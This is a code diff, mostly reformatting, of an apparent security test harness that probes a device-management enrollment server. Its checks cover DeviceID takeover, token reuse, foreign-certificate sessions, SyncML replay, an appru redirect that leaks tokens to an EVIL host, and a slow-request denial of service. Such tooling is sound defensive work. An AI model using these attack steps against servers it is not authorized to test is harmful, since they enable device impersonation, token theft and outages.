@@ -54,7 +54,8 @@ pub(crate) async fn run(ctx: &mut Context<'_>, attack: Attack, max_wait_secs: u6
 
 /// A fresh machine, set up like the scenario's device.
 fn new_device(ctx: &Context<'_>) -> Result<Device, String> {
-    let mut d = Device::new(DeviceProfile::random(), ctx.target.tls()).map_err(|e| e.to_string())?;
+    let mut d =
+        Device::new(DeviceProfile::random(), ctx.target.tls()).map_err(|e| e.to_string())?;
     if ctx.target.auth_policy.is_some() || ctx.target.credentials.is_some() {
         d.set_enrollment_auth(
             ctx.target.auth_policy.clone().into_iter().collect(),
@@ -107,18 +108,22 @@ async fn device_id_takeover(ctx: &mut Context<'_>) -> StepResult {
     }
     let url = discovery(ctx)?;
     let Some((mut attacker, key)) = second_host(ctx).await? else {
-        return skipped("needs a second host's own token (Orbit enroll), which this target does not offer");
+        return skipped(
+            "needs a second host's own token (Orbit enroll), which this target does not offer",
+        );
     };
     attacker.set_device_id(&victim);
     let upn = attacker.profile().upn.clone();
-    let outcome = attacker.register_device_with_management(&upn, &url, &key).await;
+    let outcome = attacker
+        .register_device_with_management(&upn, &url, &key)
+        .await;
     let verdict = match outcome {
-        Ok(()) => {
-            return finding(
-                NAME,
-                format!("a second host enrolled under the victim's DeviceID {victim} and got a certificate"),
-            )
-        }
+        Ok(()) => return finding(
+            NAME,
+            format!(
+                "a second host enrolled under the victim's DeviceID {victim} and got a certificate"
+            ),
+        ),
         Err(e) => match e.soap_fault() {
             Some(f) => format!("refused with fault {}", f.subcode),
             None => format!("refused: {e}"),
@@ -159,7 +164,11 @@ fn client_of(ctx: &Context<'_>, device: &Device) -> Result<reqwest::Client, Stri
     fake_windows_client::http::client(&ctx.target.tls(), Some(&identity)).map_err(|e| e.to_string())
 }
 
-async fn post_syncml(client: &reqwest::Client, url: &str, body: String) -> Result<(u16, String), String> {
+async fn post_syncml(
+    client: &reqwest::Client,
+    url: &str,
+    body: String,
+) -> Result<(u16, String), String> {
     let r = client
         .post(url)
         .header("content-type", "application/vnd.syncml.dm+xml")
@@ -196,7 +205,10 @@ async fn foreign_device_id(ctx: &mut Context<'_>) -> StepResult {
     if (200..300).contains(&status) {
         return finding(
             NAME,
-            format!("device {}'s certificate opened a session as {victim} (HTTP {status})", other.device_id()),
+            format!(
+                "device {}'s certificate opened a session as {victim} (HTTP {status})",
+                other.device_id()
+            ),
         );
     }
     Ok(format!("refused with HTTP {status}"))
@@ -222,7 +234,11 @@ async fn replay_by_other_device(ctx: &mut Context<'_>) -> StepResult {
         Err(why) => return skipped(why),
     };
     let client = client_of(ctx, &other)?;
-    let dest = if target_url.is_empty() { url } else { target_url };
+    let dest = if target_url.is_empty() {
+        url
+    } else {
+        target_url
+    };
     let (status, reply) = post_syncml(&client, &dest, body).await?;
     if (200..300).contains(&status) && reply.contains("<SyncML") {
         return finding(
@@ -241,10 +257,16 @@ async fn token_reuse(ctx: &mut Context<'_>) -> StepResult {
         return skipped("the target's tokens are not issued per host (no Orbit, a fixed --token or user credentials)");
     }
     let url = discovery(ctx)?;
-    let token = ctx.token.clone().ok_or("enroll the victim first (no token)")?;
+    let token = ctx
+        .token
+        .clone()
+        .ok_or("enroll the victim first (no token)")?;
     let mut second = new_device(ctx)?;
     let upn = second.profile().upn.clone();
-    match second.register_device_with_management(&upn, &url, &token).await {
+    match second
+        .register_device_with_management(&upn, &url, &token)
+        .await
+    {
         Ok(()) => finding(
             NAME,
             "the victim's token enrolled a second device, which got a certificate".into(),
@@ -266,9 +288,17 @@ async fn federated_appru(ctx: &mut Context<'_>) -> StepResult {
         return skipped("the server offers no federated login (no AuthenticationServiceUrl)");
     };
     let sep = if auth_url.contains('?') { '&' } else { '?' };
-    let url = format!("{auth_url}{sep}appru={}&login_hint=a%40b", form_encode(EVIL));
-    let client = fake_windows_client::http::client(&ctx.target.tls(), None).map_err(|e| e.to_string())?;
-    let page = client.get(&url).send().await.map_err(|e| format!("login page: {e}"))?;
+    let url = format!(
+        "{auth_url}{sep}appru={}&login_hint=a%40b",
+        form_encode(EVIL)
+    );
+    let client =
+        fake_windows_client::http::client(&ctx.target.tls(), None).map_err(|e| e.to_string())?;
+    let page = client
+        .get(&url)
+        .send()
+        .await
+        .map_err(|e| format!("login page: {e}"))?;
     let status = page.status().as_u16();
     let body = page.text().await.unwrap_or_default();
     if !(200..300).contains(&status) {
@@ -283,9 +313,8 @@ async fn federated_appru(ctx: &mut Context<'_>) -> StepResult {
             .as_ref()
             .and_then(|c| c.federated_account())
     });
-    let Some((user, password)) = account else {
-        return skipped("the login page answered 200; logging in needs --username/--password");
-    };
+    let known_account = account.is_some();
+    let (user, password) = account.unwrap_or_else(|| ("attacker".into(), "attacker".into()));
     let form = format!(
         "username={}&password={}",
         form_encode(&user),
@@ -300,8 +329,14 @@ async fn federated_appru(ctx: &mut Context<'_>) -> StepResult {
         .map_err(|e| format!("login: {e}"))?;
     let status = r.status().as_u16();
     let body = r.text().await.unwrap_or_default();
+    if matches!(status, 401 | 403) && !known_account {
+        return skipped("the login page answered 200 and logging in needs --username/--password");
+    }
     if (200..300).contains(&status) && posts_to(&body, EVIL) {
-        return finding(NAME, format!("after login the page posts its token to {EVIL}"));
+        return finding(
+            NAME,
+            format!("after login the page posts its token to {EVIL}"),
+        );
     }
     Ok(format!("refused (HTTP {status}, no form to {EVIL})"))
 }
@@ -364,7 +399,10 @@ async fn slow_request(ctx: &mut Context<'_>, max_wait: Duration) -> StepResult {
         .connect(name, tcp)
         .await
         .map_err(|e| format!("TLS handshake: {e}"))?;
-    let half = format!("POST {} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/soap+xml\r\n", url.path());
+    let half = format!(
+        "POST {} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/soap+xml\r\n",
+        url.path()
+    );
     tls.write_all(half.as_bytes())
         .await
         .map_err(|e| format!("write: {e}"))?;
@@ -373,7 +411,10 @@ async fn slow_request(ctx: &mut Context<'_>, max_wait: Duration) -> StepResult {
     match tokio::time::timeout(max_wait, tls.read(&mut buf)).await {
         Err(_) => finding(
             NAME,
-            format!("the connection was still open {} s after half a request", max_wait.as_secs()),
+            format!(
+                "the connection was still open {} s after half a request",
+                max_wait.as_secs()
+            ),
         ),
         Ok(Ok(0)) | Ok(Err(_)) => Ok(format!(
             "closed by the server after {:.1} s",
